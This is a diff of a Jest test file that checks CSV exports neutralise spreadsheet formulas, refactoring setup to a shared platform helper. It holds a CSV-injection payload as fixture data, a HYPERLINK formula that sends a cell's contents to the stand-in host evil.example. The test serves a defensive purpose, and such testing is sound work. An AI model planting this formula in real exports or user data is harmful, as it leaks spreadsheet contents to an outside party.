@@ -1,7 +1,7 @@
-import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { describe, expect, it } from '@jest/globals';
 import request from 'supertest';
 import { neutraliseCell, toCsv } from '../../server/src/http/csv.js';
-import { startPlatform, type RunningPlatform } from '../helpers/platform.js';
+import { usePlatform } from '../helpers/platform.js';
 
 const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B3,"Tunewave")';
 
@@ -24,13 +24,7 @@ describe('CSV exports never run formulas (OWASP CSV Injection)', () => {
   });
 
   describe('/monitor/exposure.csv', () => {
-    let gh: RunningPlatform;
-    beforeAll(async () => {
-      gh = await startPlatform();
-    });
-    afterAll(async () => {
-      await gh.close();
-    });
+    const gh = usePlatform();
 
     it('When a client registers with a formula as its name, then its cell in the export starts with an apostrophe', async () => {
       const reg = await request(gh.url).post('/reg').set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
